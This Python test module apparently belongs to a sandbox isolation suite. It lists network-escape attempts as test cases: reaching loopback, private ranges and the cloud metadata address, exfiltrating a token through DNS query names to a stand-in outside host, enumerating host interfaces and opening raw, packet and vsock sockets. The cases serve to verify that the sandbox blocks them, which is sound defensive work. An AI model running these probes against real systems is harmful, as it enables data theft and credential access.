"""Network: reaching the host, its neighbours, the outside, by every family of sockets.

All of it happens in a network of the test's own (`networks`): the servers below are the only ones there.
"""

from __future__ import annotations

import os
import socket
from functools import partial

from tests.isolation.case import EVERY_TIER, Case, Prepare
from tests.isolation.evidence import heard
from tests.isolation.guards import Guard
from tests.isolation.scene import Scene

NETWORK = (Guard.NETWORK,)
FILTER = (Guard.SECCOMP,)
ROOT_OF_ITS_NETWORK = (Guard.SECCOMP, Guard.CAPABILITIES, Guard.USERNS)

CONNECT = """\
with socket.create_connection(tuple(facts['server'][:2]), timeout=1) as connection:
    connection.sendall(b'hello')
"""
SEND = """\
datagrams = socket.socket(socket.AF_INET6 if ':' in facts['server'][0] else socket.AF_INET, socket.SOCK_DGRAM)
datagrams.sendto(b'hello', tuple(facts['server'][:2]))
"""


def _tcp(scene: Scene, host: str, port: int = 0) -> None:
    scene.listen("server", socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, port))


def _udp(scene: Scene, host: str, port: int = 0) -> None:
    scene.listen("server", socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, (host, port))


def _abstract(scene: Scene) -> None:
    scene.listen("server", socket.AF_UNIX, socket.SOCK_STREAM, f"\0{scene.token}", fact=scene.token)


def _abstract_datagrams(scene: Scene) -> None:
    scene.listen("server", socket.AF_UNIX, socket.SOCK_DGRAM, f"\0{scene.token}", fact=scene.token)


def _path(scene: Scene) -> None:
    scene.listen("server", socket.AF_UNIX, socket.SOCK_STREAM, str(scene.outside / "server"))
    os.chmod(scene.outside / "server", 0o777)


def _group(scene: Scene) -> None:
    server = scene.listen("server", socket.AF_INET, socket.SOCK_DGRAM, ("", 0))
    member = socket.inet_aton("224.0.0.251") + socket.inet_aton("127.0.0.1")
    server.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    scene.facts["server"] = ["224.0.0.251", server.getsockname()[1]]


def _reaches(name: str, attack: str, prepare: Prepare, *, tiers: tuple[str, ...] = ("free",)) -> Case:
    return Case(name, "network", NETWORK, attack, prepare=prepare, escaped=heard, tiers=tiers)


def _family(name: str, attack: str, guards: tuple[Guard, ...] = FILTER, **more: tuple[str, ...]) -> Case:
    return Case(name, "network", guards, attack, **more)  # type: ignore[arg-type]


CASES = (
    _reaches(
        "connects to a service on the host's loopback", CONNECT, partial(_tcp, host="127.0.0.1"), tiers=EVERY_TIER
    ),
    _reaches("connects to a service on the host's IPv6 loopback", CONNECT, partial(_tcp, host="::1")),
    _reaches("connects to 10/8", CONNECT, partial(_tcp, host="10.11.12.13")),
    _reaches("connects to 172.16/12", CONNECT, partial(_tcp, host="172.16.17.18")),
    _reaches("connects to 192.168/16", CONNECT, partial(_tcp, host="192.168.19.20")),
    _reaches("connects to a private IPv6 address", CONNECT, partial(_tcp, host="fd00:7::1")),
    _reaches(
        "asks the cloud's metadata service",
        CONNECT,
        partial(_tcp, host="169.254.169.254", port=80),
        tiers=EVERY_TIER,
    ),
    _reaches(
        "connects to an address outside", CONNECT, partial(_tcp, host="203.0.113.7", port=443), tiers=EVERY_TIER
    ),
    _reaches(
        "connects to loopback by an IPv4 address in IPv6",
        """\
        connection = socket.socket(socket.AF_INET6)
        connection.settimeout(1)
        connection.connect(('::ffff:127.0.0.1', facts['server'][1]))
        connection.sendall(b'hello')
        """,
        partial(_tcp, host="127.0.0.1"),
    ),
    _reaches(
        "connects to 0.0.0.0",
        """\
        with socket.create_connection(('0.0.0.0', facts['server'][1]), timeout=1) as connection:
            connection.sendall(b'hello')
        """,
        partial(_tcp, host="127.0.0.1"),
    ),
    _reaches(
        "connects by multipath TCP",
        """\
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        connection.settimeout(1)
        connection.connect(tuple(facts['server']))
        connection.sendall(b'hello')
        """,
        partial(_tcp, host="127.0.0.1"),
    ),
    _reaches(
        "sends its first bytes with the connection (fast open)",
        """\
        connection = socket.socket()
        connection.settimeout(1)
        connection.sendto(b'hello', socket.MSG_FASTOPEN, tuple(facts['server']))
        """,
        partial(_tcp, host="127.0.0.1"),
    ),
    _reaches("sends a datagram to the host's loopback", SEND, partial(_udp, host="127.0.0.1")),
    _reaches("sends a datagram over IPv6", SEND, partial(_udp, host="::1")),
    _reaches("sends a datagram outside", SEND, partial(_udp, host="203.0.113.7")),
    _reaches(
        "asks a name server",
        """\
        question = bytes.fromhex('abcd01000001000000000000') + b'\\x07penstock\\x04test\\x00\\x00\\x01\\x00\\x01'
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.53', 53))
        """,
        partial(_udp, host="127.0.0.53", port=53),
        tiers=EVERY_TIER,
    ),
    _reaches(
        "smuggles data out in the names it looks up",
        """\
        name = facts['token'] + '.penstock.test'
        packet = bytes.fromhex('abcd01000001000000000000')
        packet += b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
        packet += b'\\x00\\x00\\x01\\x00\\x01'
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ('203.0.113.7', 53))
        """,
        partial(_udp, host="203.0.113.7", port=53),
    ),
    _reaches("sends to a multicast group", SEND, _group),
    _reaches(
        "sends to everybody on the network",
        """\
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        datagrams.sendto(b'hello', ('127.255.255.255', facts['server'][1]))
        """,
        partial(_udp, host="0.0.0.0"),
    ),
    _reaches(
        "connects to an abstract unix socket of the host",
        """\
        connection = socket.socket(socket.AF_UNIX)
        connection.connect('\\0' + facts['server'])
        connection.sendall(b'hello')
        """,
        _abstract,
        tiers=EVERY_TIER,
    ),
    _reaches(
        "sends to an abstract unix socket of the host",
        """\
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'hello', '\\0' + facts['server'])
        """,
        _abstract_datagrams,
    ),
    Case(
        "connects to a unix socket of the host by its path",
        "network",
        (Guard.PATHS,),
        """\
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(facts['server'])
        connection.sendall(b'hello')
        """,
        prepare=_path,
        escaped=heard,
    ),
    Case(
        "finds network interfaces of the host",
        "network",
        NETWORK,
        """\
        import fcntl, struct
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        answer = bytearray(4096)
        buffer = (ctypes.c_char * 4096).from_buffer(answer)
        request = bytearray(struct.pack('iP', 4096, ctypes.addressof(buffer)))
        fcntl.ioctl(probe, 0x8912, request)  # SIOCGIFCONF: interfaces that have an address
        for at in range(0, struct.unpack('iP', request)[0], 40):
            address = socket.inet_ntoa(bytes(answer[at + 20:at + 24]))
            if address != '127.0.0.1':
                escaped(address)
        """,
        tiers=EVERY_TIER,
    ),
    Case(
        "reads the host's routes and connections",
        "network",
        NETWORK,
        """\
        for name in ('tcp', 'udp'):
            for line in open('/proc/self/net/' + name).readlines()[1:]:
                escaped(line.split()[1])
        """,
        prepare=partial(_tcp, host="127.0.0.1"),
    ),
    _family(
        "opens a raw socket",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nescaped('raw')",
        ROOT_OF_ITS_NETWORK,
        tiers=EVERY_TIER,
    ),
    _family(
        "opens a raw IPv6 socket",
        """\
        socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        escaped('raw')
        """,
        ROOT_OF_ITS_NETWORK,
    ),
    _family(
        "opens a packet socket",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)\nescaped('packet')",
        ROOT_OF_ITS_NETWORK,
        tiers=EVERY_TIER,
    ),
    _family(
        "opens a cooked packet socket",
        "socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)\nescaped('packet')",
        ROOT_OF_ITS_NETWORK,
    ),
    _family(
        "opens a socket to the virtual machine's host",
        """\
        socket.socket(40, socket.SOCK_STREAM)
        escaped('vsock')
        """,
        tiers=EVERY_TIER,
    ),
    _family(
        "opens a packet-wise socket to the virtual machine's host",
        """\
        socket.socket(40, socket.SOCK_SEQPACKET)
        escaped('vsock')
        """,
    ),
    _family(
        "brings up an interface of its own",
        """\
        import fcntl, struct
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        fcntl.ioctl(probe, 0x8914, struct.pack('16sh14x', b'lo', 0x1))  # SIOCSIFFLAGS, up
        escaped('an interface')
        """,
        (Guard.CAPABILITIES, Guard.USERNS),
    ),
)
